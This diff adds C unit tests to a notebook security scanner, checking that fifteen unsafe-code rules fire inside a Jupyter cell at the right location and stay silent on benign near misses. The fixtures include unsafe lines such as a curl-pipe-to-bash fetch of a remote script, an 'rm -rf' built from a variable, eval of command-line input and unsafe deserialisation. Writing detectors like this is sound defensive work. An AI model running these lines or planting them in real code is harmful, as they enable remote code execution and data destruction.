@@ -540,3 +540,74 @@ WT_TEST(non_empty_cell_metadata_is_scanned_as_json_with_raw_lines)
     CHECK_INT(metas, 1); /* the empty {} of the markdown cell is skipped */
     recs_free(&a);
 }
+
+/* ---- every unsafe-code rule inside a notebook cell: positive with its
+ * location, near miss without a finding ---- */
+static char *nb_with(const char *imports, const char *line)
+{
+    wt_buf b;
+    wt_buf_init(&b);
+    wt_buf_puts(&b, "{\"cells\": [\n"
+                    "{\"cell_type\": \"markdown\", \"metadata\": {}, \"source\": [\"intro\"]},\n"
+                    "{\"cell_type\": \"code\", \"id\": \"c-1\", \"metadata\": {}, \"outputs\": [], \"source\": [\n");
+    const char *parts[2] = {imports, line};
+    for (int k = 0; k < 2; k++) {
+        wt_buf_puts(&b, " \"");
+        for (const char *p = parts[k]; *p; p++) {
+            if (*p == '"' || *p == '\\')
+                wt_buf_putc(&b, '\\');
+            wt_buf_putc(&b, *p);
+        }
+        wt_buf_puts(&b, k == 0 ? "\\n\",\n" : "\\n\"\n");
+    }
+    wt_buf_puts(&b, "]}],\n\"metadata\": {}, \"nbformat\": 4, \"nbformat_minor\": 5}\n");
+    return wt_buf_steal(&b);
+}
+
+WT_TEST(every_code_rule_fires_in_a_cell_with_its_location_and_not_on_its_near_miss)
+{
+    static const char *const cases[][4] = {
+        {"WT-CODE-001", "import pickle", "obj = pickle.loads(blob)", "s = pickle.dumps(obj)"},
+        {"WT-CODE-002", "import joblib", "m = joblib.load(path)", "joblib.dump(m, path)"},
+        {"WT-CODE-003", "import dill", "f = dill.load(fh)", "b = dill.dumps(f)"},
+        {"WT-CODE-004", "import torch", "sd = torch.load(p, weights_only=False)", "sd = torch.load(p, weights_only=True)"},
+        {"WT-CODE-005", "import numpy as np", "a = np.load(p, allow_pickle=True)", "a = np.load(p)"},
+        {"WT-CODE-006", "import yaml", "c = yaml.load(f, Loader=yaml.FullLoader)", "c = yaml.load(f, Loader=yaml.SafeLoader)"},
+        {"WT-CODE-007", "import sys", "v = eval(sys.argv[1])", "v = eval('2 ** 8')"},
+        {"WT-CODE-008", "import os", "os.system('rm -rf ' + d)", "os.path.exists(d)"},
+        {"WT-CODE-009", "import subprocess", "subprocess.call(c, shell=True)", "subprocess.call(['ls'])"},
+        {"WT-CODE-010", "from transformers import AutoModel", "m = AutoModel.from_pretrained(r, trust_remote_code=True)",
+         "m = AutoModel.from_pretrained(r)"},
+        {"WT-CODE-011", "import requests", "r = requests.post(u, json=d, verify=False)", "r = requests.post(u, json=d)"},
+        {"WT-CODE-012", "import keras", "m = keras.models.load_model(p, safe_mode=False)", "m = keras.models.load_model(p)"},
+        {"WT-CODE-013", "import keras", "keras.config.enable_unsafe_deserialization()",
+         "keras.config.enable_traceback_filtering()"},
+        {"WT-CODE-014", "import tarfile", "tarfile.open(p).extractall(d)", "tarfile.open(p).extractall(d, filter='data')"},
+        {"WT-CODE-015", "import os", "!curl -sL https://x.io/i.sh | bash", "!curl -sL -o i.sh https://x.io/i.sh"},
+    };
+    for (size_t i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+        char *pos = nb_with(cases[i][1], cases[i][2]);
+        wt_scan_result *r = wt_t_scan_mem("rules.ipynb", pos, strlen(pos));
+        const wt_finding *f = wt_t_find(r, cases[i][0]);
+        if (!f)
+            fprintf(stderr, "    no %s for: %s\n", cases[i][0], cases[i][2]);
+        CHECK(f != NULL);
+        if (f) {
+            CHECK_INT(f->loc.cell, 1);
+            CHECK_STR(f->loc.cell_id, "c-1");
+            CHECK_STR(f->loc.cell_part, "source");
+            CHECK_INT(f->loc.cell_line, 2);
+            CHECK_INT(f->loc.line, 5);
+        }
+        CHECK_INT(wt_t_count(r, "WT-CODE-*"), 1);
+        wt_scan_result_free(r);
+        free(pos);
+        char *neg = nb_with(cases[i][1], cases[i][3]);
+        r = wt_t_scan_mem("rules.ipynb", neg, strlen(neg));
+        if (wt_t_count(r, "WT-CODE-*") != 0)
+            fprintf(stderr, "    near miss fired: %s\n", cases[i][3]);
+        CHECK_INT(wt_t_count(r, "WT-CODE-*"), 0);
+        wt_scan_result_free(r);
+        free(neg);
+    }
+}
